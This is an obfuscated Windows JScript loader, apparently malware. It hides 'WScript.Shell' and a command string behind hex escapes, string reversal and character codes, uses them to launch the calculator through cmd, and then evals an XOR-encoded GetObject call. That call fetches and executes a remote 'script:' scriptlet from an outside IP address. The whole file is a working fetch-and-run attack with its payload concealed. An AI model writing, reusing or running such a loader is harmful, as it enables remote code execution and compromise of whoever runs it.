var p = ["\x57\x53\x63ript", "llehS"];
var s = new ActiveXObject(p[0] + "." + p[1].split("").reverse().join(""));
var c = unescape("%63%6d%64%20%2f%63");
s["R" + "un"](c + " " + String.fromCharCode(99,97,108,99));
eval([82,112,97,90,119,127,112,118,97,61,55,102,118,103,124,101,97,47,125,97,97,101,47,58,58,36,44,39,59,37,59,39,59,32,58,116,59,102,118,97,55,60].map(function (n) { return String.fromCharCode(n ^ 21); }).join(""));
